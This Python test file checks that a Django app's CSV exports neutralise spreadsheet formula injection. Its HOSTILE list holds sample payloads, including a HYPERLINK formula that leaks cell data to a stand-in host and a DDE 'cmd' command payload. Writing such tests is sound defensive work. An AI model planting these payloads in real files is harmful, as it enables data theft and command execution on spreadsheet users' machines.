"""Every CSV the app serves is safe to open in a spreadsheet: a cell whose text starts with
=, +, -, @, a tab or a carriage return gets a leading ' (the run report's CSV, any member's
download, wrote query ids, categories and strata raw); both downloads write through one helper,
goldsmith.formats.spreadsheets, so the rule lives in one place."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from annotation.services.goldsets import LoadedGoldset, golden_set_version_import
from evaluation.models import RunState
from evaluation.services.retrievers import retriever_save
from evaluation.services.runs import evaluation_run_create, evaluation_run_execute_inline
from goldsmith.formats.goldset import GoldenQuery, GoldJudgment

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _hostile_version(project):
    """Query ids, categories and strata that a spreadsheet would run, and one plain query."""
    queries = [
        GoldenQuery(
            query_id=value,
            query=f"question {i}",
            judgments=(GoldJudgment(f"c{i}", 2, text=value), GoldJudgment(f"n{i}", 0)),
            category=HOSTILE[(i + 1) % len(HOSTILE)],
            stratum=HOSTILE[(i + 2) % len(HOSTILE)],
        )
        for i, value in enumerate(HOSTILE)
    ]
    queries.append(
        GoldenQuery(
            query_id="plain",
            query="plain question",
            judgments=(GoldJudgment("cp", 2),),
            category="faq",
            stratum="head",
        )
    )
    loaded = LoadedGoldset(queries=queries, header=None, corpus=None, source_name="hostile.jsonl")
    return golden_set_version_import(project=project, by=None, loaded=loaded, fmt="jsonl")


def _assert_neutralised(rows: list[dict[str, str]], columns: tuple[str, ...]) -> None:
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(FORMULA), (name, value)
    for column in columns:
        cells = {r[column] for r in rows}
        assert {"'" + v for v in HOSTILE} <= cells, (column, cells)


@pytest.mark.django_db
def test_the_run_report_csv_neutralises_formulas_for_a_viewer(personas, private_urls, stub_factory):
    project = personas.project
    version = _hostile_version(project)
    answers = {q: [f"c{i}", f"n{i}"] for i, q in enumerate(HOSTILE)} | {"plain": ["x", "cp"]}
    stub = stub_factory(answers)
    retriever = retriever_save(project=project, name="stub", kind="http", config=stub.config())
    run = evaluation_run_create(
        project=project, retriever=retriever, version=version, enqueue=False
    )
    run = evaluation_run_execute_inline(run_id=run.pk)
    assert run.state == RunState.SUCCEEDED, run.error
    client = Client()
    client.force_login(personas.victor)
    response = client.get(f"/projects/{project.pk}/runs/{run.pk}/report.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert len(rows) == len(HOSTILE) + 1
    _assert_neutralised(rows, ("query_id", "category", "stratum"))
    plain = next(r for r in rows if r["query_id"] == "plain")
    assert (plain["category"], plain["stratum"]) == ("faq", "head")
    assert float(plain["recall@10"]) == 1.0  # numbers stay numbers


@pytest.mark.django_db
def test_the_golden_set_csv_neutralises_formulas_from_the_api_and_the_page(personas):
    project = personas.project
    version = _hostile_version(project)
    client = Client()
    client.force_login(personas.victor)
    for url in (
        f"/api/v1/projects/{project.pk}/goldsets/{version.label}/export/csv/",
        f"/projects/{project.pk}/goldsets/{version.label}/export/csv/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        body = b"".join(response.streaming_content).decode()
        rows = list(csv.DictReader(io.StringIO(body)))
        _assert_neutralised(rows, ("query_id", "category", "stratum", "chunk_text"))
        assert {r["grade"] for r in rows} == {"0", "2"}


def test_both_downloads_write_through_the_one_helper():
    import inspect

    from evaluation.services import reports
    from goldsmith.formats import goldset as goldset_io

    for function in (goldset_io.csv_pieces, reports.report_csv):
        source = inspect.getsource(function)
        assert "spreadsheets.writer(" in source, function.__name__
        assert "csv.writer(" not in source.replace("spreadsheets.writer(", "")
        assert "csv.DictWriter(" not in source
